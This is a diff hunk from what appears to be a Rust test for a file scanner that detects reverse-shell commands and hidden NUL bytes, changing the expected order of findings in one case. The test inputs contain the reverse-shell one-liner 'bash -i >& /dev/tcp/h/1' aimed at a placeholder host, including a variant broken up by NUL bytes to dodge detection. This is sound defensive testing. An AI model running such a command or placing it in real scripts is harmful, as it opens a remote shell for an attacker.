@@ -185,7 +185,7 @@ fn a_byte_of_an_older_encoding_hides_nothing() {
     for (file, bytes, found) in [
         ("a.sh", &b"# caf\xe9\nbash -i >& /dev/tcp/h/1\n"[..], &[shell][..]),
         ("a.sh", b"# \0\nbash -i >& /dev/tcp/h/1\n", &[zero, shell]),
-        ("run", b"#!/bin/bash\n# \0\xe9\nbash -i >& /dev/tcp/h/1\n", &[shell, zero]),
+        ("run", b"#!/bin/bash\n# \0\xe9\nbash -i >& /dev/tcp/h/1\n", &[zero, shell]),
         ("a.sh", b"ba\0sh -\0i >\0& /dev/t\0cp/h/1\n", &[shell, zero]),
         (
             "a.md",
